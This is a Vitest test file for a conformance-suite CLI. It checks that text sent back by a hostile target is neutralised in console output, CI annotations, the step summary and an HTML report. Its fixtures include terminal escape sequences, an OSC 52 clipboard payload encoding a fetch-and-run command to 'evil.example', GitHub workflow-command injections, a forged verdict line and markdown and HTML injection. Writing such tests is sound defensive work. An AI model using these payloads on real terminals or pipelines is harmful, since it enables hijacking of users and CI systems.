import { describe, expect, it } from 'vitest';
import { annotations, stepSummary } from '../../src/cli/ci-output.ts';
import { formatSummary } from '../../src/cli/console-summary.ts';
import { consoleSafe, shownText } from '../../src/text/console-text.ts';
import { html } from '../../src/report/html/safe-html.ts';
import { sampleReport } from '../support/sample-report.ts';

/** What a hostile target puts in a body, a header or an error: each must reach the console inert. */
const PAYLOADS = {
  clearScreen: '\u001b[2J\u001b[H',
  clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  hyperlink: '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  c1Csi: '\u009b31m',
  fakeVerdict: '\nCONFORMANT: All 51 MUST requirements pass\n',
  workflowCommand: '\n::error::the target wrote this\n  ::add-mask::x\r::stop-commands::token\n',
  midLineCommand: 'note ::warning::mid-line and ##[stop-commands]token and ###[error]x',
  markdown: '[click](https://evil.example) ![img](https://evil.example/p.png) <img src=x> | a | b | `code`',
  bidi: 'abc\u202edcba',
  autolinks: '@octocat www.evil.example security@evil.example $\\mathbf{x}$',
  gzip: '\u001f\u008b\u0008\u0000\u0000\u0000\u0000\u0000\u0000\u0003',
};
const HOSTILE = Object.values(PAYLOADS).join(' ');

// eslint-disable-next-line no-control-regex -- the point: no raw control character may remain
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

/** Lines that would hold a workflow command (`::` anywhere, or `##[` anywhere), and lines that claim a verdict. */
function dangerousLines(output: string): string[] {
  return output.split('\n').filter((line) => line.includes('::') || line.includes('##[') || /^\s*CONFORMANT:/.test(line));
}

function hostileReport() {
  const { report } = sampleReport({ exchangesPerTest: 1, harnessErrors: true });
  const failing = report.requirements.find((r) => r.verdict === 'fail' && r.failures.length > 0)!;
  const failure = failing.failures[0]!;
  failure.expected = `a Pet ${HOSTILE}`;
  failure.actual = `${HOSTILE}${'x'.repeat(5000)}`;
  failure.message = HOSTILE;
  failure.curl = `curl -sS 'https://t.example/v1/pets' ${HOSTILE}`;
  if (failure.property) failure.property.counterexample = HOSTILE;
  report.harnessErrors = [{ code: 'ERR_TARGET_UNREACHABLE', message: `the target said ${HOSTILE}` }];
  report.verdict.notes = [HOSTILE];
  return report;
}

describe('one sanitiser for everything a target can put on the console', () => {
  it('shownText: one line, controls and escape sequences shown escaped, a leading :: neutralised, long text cut', () => {
    expect(shownText(PAYLOADS.clearScreen)).toBe('\\x1b[2J\\x1b[H');
    expect(shownText(PAYLOADS.clipboard)).toBe('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(shownText(PAYLOADS.c1Csi)).toBe('\\x9b31m');
    expect(shownText('::error::x')).toBe('\\x3a:error\\x3a:x');
    expect(shownText('a ##[stop-commands]t :::b')).toBe('a \\x23#[stop-commands]t \\x3a\\x3a:b');
    expect(shownText('  ::warning::x')).toBe('  \\x3a:warning\\x3a:x');
    expect(shownText(PAYLOADS.fakeVerdict)).toBe('\\nCONFORMANT: All 51 MUST requirements pass\\n');
    expect(shownText('a\u202eb\u200bc\ufeffd')).toBe('a\\u202eb\\u200bc\\ufeffd');
    expect(shownText('y'.repeat(1000), 100)).toBe(`${'y'.repeat(100)}… (900 more characters)`);
    expect(shownText('plain text: ünïcödé 🐕 stays')).toBe('plain text: ünïcödé 🐕 stays');
    expect(shownText('\ud800 lone')).toBe('\\ud800 lone');
  });

  it('consoleSafe: keeps the lines of the suite, escapes the rest, neutralises every line that starts with ::', () => {
    const out = consoleSafe(`summary\n${HOSTILE}\nend`);
    expect(out).not.toMatch(RAW_CONTROL);
    expect(out.split('\n')[0]).toBe('summary');
    expect(out.split('\n').filter((line) => line.trimStart().startsWith('::'))).toEqual([]);
  });

  it('the console summary of a run full of hostile text holds no raw control byte, no :: line, no fake verdict line', () => {
    const out = consoleSafe(formatSummary(hostileReport(), ['conformance.json']));
    expect(out).not.toMatch(RAW_CONTROL);
    expect(dangerousLines(out)).toEqual([]);
    expect(out).toContain('\\x1b]52;c;');
    expect(out).toContain('more characters)');
    // Each piece is cut: the 5000 x's do not all reach the terminal.
    expect(out).not.toContain('x'.repeat(1000));
  });

  it("the suite's own ::error annotations are built from sanitised text only: one line each, nothing raw", () => {
    const lines = annotations(hostileReport());
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      expect(line).toMatch(/^::(error|notice) title=[^\n\r:]*::/);
      expect(line).not.toMatch(RAW_CONTROL);
      expect(line).not.toMatch(/[\r\n]/);
    }
  });

  it('the step summary holds no raw control byte and no :: line', () => {
    const summary = stepSummary(hostileReport());
    expect(summary).not.toMatch(RAW_CONTROL);
    expect(dangerousLines(summary)).toEqual([]);
  });

  it('the step summary shows target text as text: no link, image, HTML tag or table cell from the target', () => {
    // A fenced code block (the curl line) shows its text literally: only what lies outside is markup.
    // A code span (target text) likewise, so it is left out before looking for markup.
    const summary = stepSummary(hostileReport())
      .replace(/\n {4}```sh\n[^\n]*\n {4}```/g, '')
      .replace(/(`+) .*? \1|(`+)[^`]*?\2/g, '');
    expect(stepSummary(hostileReport())).toContain('evil.example');
    expect(summary).not.toMatch(/(?<!\\)\]\(/);
    expect(summary).not.toMatch(/(?<!\\)!\[/);
    expect(summary).not.toMatch(/<img/);
    // Outside code spans nothing of the target's is left to read as a table cell.
    expect(summary).not.toContain('evil.example');
    // Mentions, www. and e-mail autolinks and $ math are inert only inside code spans: none is left outside.
    expect(stepSummary(hostileReport())).toContain('@octocat');
    expect(summary).not.toMatch(/@|www\.|\$/);
  });

  it('the HTML report shows the same payloads inert: C0, C1 and bidi controls as \\uXXXX, markup escaped', () => {
    const page = html`<pre>${`${HOSTILE}<script>x</script>`}</pre>`.value;
    // A page keeps tab, CR and LF (inside <pre>); nothing else.
    // eslint-disable-next-line no-control-regex -- the point: no raw control character may remain
    expect(page).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(page).toContain('\\u001B]52;c;');
    expect(page).toContain('\\u009B31m');
    expect(page).toContain('\\u202E');
    expect(page).toContain('&lt;script&gt;');
  });
});
